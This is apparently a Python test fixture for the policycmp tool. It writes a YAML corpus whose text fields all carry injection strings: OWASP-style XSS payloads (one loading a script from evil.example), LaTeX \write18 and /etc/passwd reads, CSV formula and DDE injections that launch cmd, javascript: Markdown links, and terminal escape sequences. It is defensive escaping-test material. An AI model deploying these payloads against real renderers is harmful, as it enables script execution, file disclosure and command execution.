"""Attack strings, and a corpus that carries them in every text field.

Users run policycmp on corpora other people wrote and publish what it renders, so every corpus
string is treated as hostile. The lists below are grouped by the format they attack; the corpus
built by :func:`write_hostile_corpus` puts every one of them into every kind of text field (case
title, summary and subject, group and topic labels, statements, aliases, actor names and
descriptions, source titles and publishers, claim summaries, quotes, clauses and speakers), and
into a file name and a source text, so that each output format meets each attack.

Each XSS payload that would run sets ``window.__pwned`` (or ``parent.__pwned``), so a browser
test can prove that none ran; payloads that would only create an element use ids starting with
``pwned``.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

JS = "window.__pwned=1"
_B64 = base64.b64encode(b"<script>parent.__pwned=1</script>").decode("ascii")

# The OWASP XSS filter evasion cheat sheet, a representative selection, each made to set a marker.
XSS: tuple[str, ...] = (
    f"<script>{JS}</script>",
    f"<SCRIPT SRC=data:text/javascript,{JS}></SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f'<IMG SRC="javascript:{JS};">',
    f"<img src=x onerror={JS}>",
    f'<img src=x onerror="{JS}">',
    f"<img src=x onerror={JS}//",
    f'<IMG SRC=# onmouseover="{JS}">',
    f"<svg onload={JS}>",
    f"<svg/onload={JS}>",
    f"<body onload={JS}>",
    '<iframe src="javascript:parent.__pwned=1"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f'<a href="javascript:{JS}">click me</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1">entities</a>',
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x77&#x69&#x6E&#x64&#x6F&#x77>",
    f'<IMG SRC="jav\tascript:{JS};">',
    f'<IMG SRC="jav&#x09;ascript:{JS};">',
    f'<IMG SRC=" &#14;  javascript:{JS};">',
    f'" onmouseover="{JS}',
    f"' onmouseover='{JS}",
    f'" autofocus onfocus="{JS}" x="',
    f"'><script>{JS}</script>",
    f'"><script>{JS}</script>',
    f"</title><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"<!--<script>{JS}</script>-->",
    f"--><script>{JS}</script><!--",
    f"]]><script>{JS}</script>",
    f"<![CDATA[<script>{JS}</script>]]>",
    f'<object data="data:text/html;base64,{_B64}"></object>',
    '<embed src="data:text/html,<script>parent.__pwned=1</script>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f"<details open ontoggle={JS}>",
    f"<input autofocus onfocus={JS}>",
    f'<video><source onerror="{JS}"></video>',
    f"<audio src=x onerror={JS}>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    f'<base href="javascript:{JS}//">',
    f'<link rel=stylesheet href="javascript:{JS}">',
    f'<div style="background:url(javascript:{JS})">styled</div>',
    f'<div style="width:expression({JS})">expr</div>',
    f'<form action="javascript:{JS}"><button id=pwned-button>go</button></form>',
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<<SCRIPT>{JS}//<</SCRIPT>",
    f'<IMG """><SCRIPT>{JS}</SCRIPT>">',
    f"<svg><script>{JS}</script></svg>",
    f'<svg><a xlink:href="javascript:{JS}"><text>x</text></a></svg>',
    f"\u202e<script>{JS}</script>\u202c",
    f"<scr\x00ipt>{JS}</scr\x00ipt>",
    "<img src=x onerror=&#x77;indow.__pwned=1>",
    f"javascript:{JS}",
    f"data:text/html;base64,{_B64}",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    '<div id="pwned-marker">injected element</div>',
    "<style>body { display: none }</style>",
    "{{ 7*7 }} {% if true %}jinja{% endif %} ${7*7}",
)

LATEX: tuple[str, ...] = (
    "\\ { } $ & # ^ _ ~ %",
    "\\input{/etc/passwd}",
    "\\include{/etc/passwd}",
    "\\write18{touch pwned}",
    "\\immediate\\write18{touch pwned}",
    "\\catcode`\\@=11 \\catcode 92=12",
    "^^5cinput{/etc/passwd} ^^5c^^5c",
    "\\csname input\\endcsname{/etc/passwd}",
    "\\openin5=/etc/passwd \\read5 to\\x",
    "\\def\\x{y}\\x \\let\\relax\\undefined",
    "\\end{tabular}\\end{document}",
    "cell & cell \\\\ \\hline \\midrule",
    "[2pt] * starts like an optional argument",
    "$\\alpha$ \\(x\\) \\[y\\]",
    "100% sure % the rest is a comment",
    "\\verb|x| \\newline\\par",
    "\\usepackage{shellesc}\\ShellEscape{touch pwned}",
    "-- --- `` '' ,, << >> !` ?`",
)

CSV: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example","click")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    'a "quoted", comma, separated',
    "line one\nline two\r\nline three",
    "=cmd|' /C notepad'!'A1'",
)

MARKDOWN: tuple[str, ...] = (
    "a | b | c",
    "first line\nsecond line",
    "`code` ``double`` ```fence```",
    "[x](javascript:alert(1))",
    "![img](javascript:alert(1))",
    "<b>raw</b> <javascript:alert(1)>",
    "**bold** __strong__ *em* _em_",
    "# heading",
    "> blockquote",
    "- item",
    "1. item",
    "[^1] ^[inline note]",
    "<http://evil.example>",
    "\\| escaped pipe \\",
    "|---|---|",
    "@citation [@key]",
    "~~strike~~ ^sup^ ~sub~",
    "{#id .class}",
    "[ref]: http://evil.example",
    "&amp; &#60;script&#62;",
    "::: warning",
    "ends with a backslash \\",
)

TERMINAL: tuple[str, ...] = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned title\x07",
    "\x1b[2J\x1b[Hclear screen",
    "over\rwrite",
    "back\x08\x08space",
    "\x9b31mC1 CSI",
    "\x9d0;C1 OSC\x9c",
    "\u202eevil\u202c reversed",
    "\u2066isolate\u2069 \u200fRLM",
    "\x07bell",
    "\x1b]8;;http://evil.example\x1b\\hyperlink\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\ DCS",
    "\x1b[6n device status report",
    "nul\x00byte",
    "del\x7fete",
    "form\x0cfeed vertical\x0btab",
    "next\x85line",
    "zero\u200bwidth \ufeffbom \u00adsoft",
    "line\u2028separator\u2029paragraph",
)

#: Every attack, once, in a stable order.
ALL: tuple[str, ...] = tuple(dict.fromkeys((*XSS, *LATEX, *CSV, *MARKDOWN, *TERMINAL)))

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ACTOR_IDS = ("ålpha.one", "beta-2", "ç3")
HOSTILE_FILE = "z<img src=x onerror=window.__pwned=1>.yaml"  # sorts last, as it is written last


def yaml_quote(text: str) -> str:
    """A YAML double-quoted scalar holding exactly ``text`` (every non-ASCII or control char escaped)."""
    out = ['"']
    for ch in text:
        code = ord(ch)
        if ch in '"\\':
            out.append("\\" + ch)
        elif 0x20 <= code < 0x7F:
            out.append(ch)
        elif code <= 0xFF:
            out.append(f"\\x{code:02x}")
        elif code <= 0xFFFF:
            out.append(f"\\u{code:04x}")
        else:
            out.append(f"\\U{code:08x}")
    out.append('"')
    return "".join(out)


_WS = re.compile(r"\s+")


def collapse(text: str) -> str:
    """What policycmp keeps of a label or summary: whitespace runs as one space, trimmed."""
    return _WS.sub(" ", text).strip()


@dataclass
class Hostile:
    """A hostile corpus on disk and what each field must read back as."""

    root: Path
    attacks: tuple[str, ...]
    case_title: str
    case_summary: str
    case_subject: str
    actors: tuple[str, ...] = ACTOR_IDS
    # field kind -> every value of that kind, as policycmp must keep it
    fields: dict[str, list[str]] = field(default_factory=dict)

    def values(self, *kinds: str) -> list[str]:
        return [v for k in (kinds or tuple(self.fields)) for v in self.fields[k]]


def _at(attacks: Sequence[str], i: int) -> str:
    return attacks[i % len(attacks)]


def write_hostile_corpus(root: Path, attacks: Iterable[str] = ALL) -> Hostile:
    """Write a valid corpus whose every text field holds attack strings; return what it holds.

    One topic per attack; three actors (ids with a dot, a hyphen and non-ASCII letters), each
    with one source and one claim per topic. Field kind ``k`` of topic/claim ``i`` holds attack
    ``i + offset(k)``, so every attack appears in every kind of field. One actor both asserts and
    denies one topic (so the inconsistency note, which quotes names and labels, is drawn); one
    actor file has a hostile name; one source has a text file of attack lines, so ``quotes``
    shows its closest passage.
    """
    attacks = tuple(attacks)
    n = len(attacks)
    root.mkdir(parents=True, exist_ok=True)
    fields: dict[str, list[str]] = {}

    def put(kind: str, value: str, keep: str = "collapse") -> str:
        fields.setdefault(kind, []).append(collapse(value) if keep == "collapse" else value.strip())
        return yaml_quote(value)

    title = " ".join(attacks[:12])
    summary = " ".join(attacks)
    subject = " ".join(attacks[12:24])
    groups = [f"g-{k}" for k in range(4)]
    lines = [
        "# A corpus made of attack strings: see tests/hostile.py",
        "case: hostile.case-ç",
        f"title: {put('case_title', title)}",
        f"summary: {put('case_summary', summary)}",
        f"subject: {put('case_subject', subject, 'strip')}",
        "groups:",
    ]
    for k, gid in enumerate(groups):
        lines.append(f"  {gid}: {{label: {put('group', _at(attacks, k * 7))}}}")
    lines.append("topics:")
    for i in range(n):
        lines += [
            f"  t-{i}:",
            f"    label: {put('topic_label', attacks[i])}",
            f"    statement: {put('statement', _at(attacks, i + 1))}",
            f"    group: {groups[i % len(groups)]}",
            f"    aliases: [{put('alias', f'alias-{i}: ' + _at(attacks, i + 2), 'strip')}]",
            "    dsa_category: STATEMENT_CATEGORY_VIOLENCE",
        ]
    (root / "case.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")

    types = ("letter", "press-statement", "court-order", "terms-of-service")
    stances = {0: ("asserts",), 1: ("denies", "qualifies"), 2: ("asserts", "denies")}
    files = ("alpha.yaml", "beta.yaml", HOSTILE_FILE)
    (root / "texts").mkdir(exist_ok=True)
    (root / "texts" / "doc.txt").write_text("\n".join(collapse(a) for a in attacks) + "\n", encoding="utf-8")
    for a, (actor, filename) in enumerate(zip(ACTOR_IDS, files, strict=True)):
        lines = [
            f"actor: {actor}",
            f"name: {put('actor_name', _at(attacks, a * 11 + 3))}",
            "role: cloud-host" if a != 1 else "role: räte.b-1",
            f"description: {put('description', _at(attacks, a * 11 + 4))}",
            "sources:",
        ]
        for i in range(n):
            lines += [
                f"  s-{i}:",
                f"    title: {put('source_title', _at(attacks, i + 3 + a))}",
                f"    type: {types[i % len(types)]}",
                f"    date: 2021-01-{i % 28 + 1:02d}",
                f"    url: https://example.org/{a}/{i}?q=%22%3E%3Cscript%3E{JS}%3C/script%3E&x=%27",
                f"    publisher: {put('publisher', _at(attacks, i + 4 + a))}",
            ]
            if a == 0 and i == 0:
                lines.append("    text: texts/doc.txt")
        lines.append("claims:")
        for i in range(n):
            stance = stances[a][i % len(stances[a])]
            lines += [
                f"  - id: c-{i}" if i % 3 else f"  - id: ü.{i}",
                f"    topic: t-{i}" if i % 2 else f"    topic: {yaml_quote(f'alias-{i}: ' + _at(attacks, i + 2))}",
                f"    stance: {stance}",
                f"    summary: {put('summary', _at(attacks, i + 5 + a))}",
                f"    quote: {put('quote', _at(attacks, i + 6 + a), 'strip')}",
                f"    source: s-{i}",
                f"    clause: {put('clause', _at(attacks, i + 7 + a), 'strip')}",
                f"    ground: {('contract', 'policy', 'law', 'fact', 'principle')[i % 5]}",
                f"    speaker: {put('speaker', _at(attacks, i + 8 + a), 'strip')}",
            ]
        if a == 2:  # the same actor asserts and denies topic 0: an inconsistency note
            lines += [
                "  - topic: t-0",
                "    stance: denies",
                f"    summary: {put('summary', _at(attacks, 9))}",
                "    source: s-0",
            ]
        (root / filename).write_text("\n".join(lines) + "\n", encoding="utf-8")
    return Hostile(root, attacks, collapse(title), collapse(summary), subject.strip(), fields=fields)
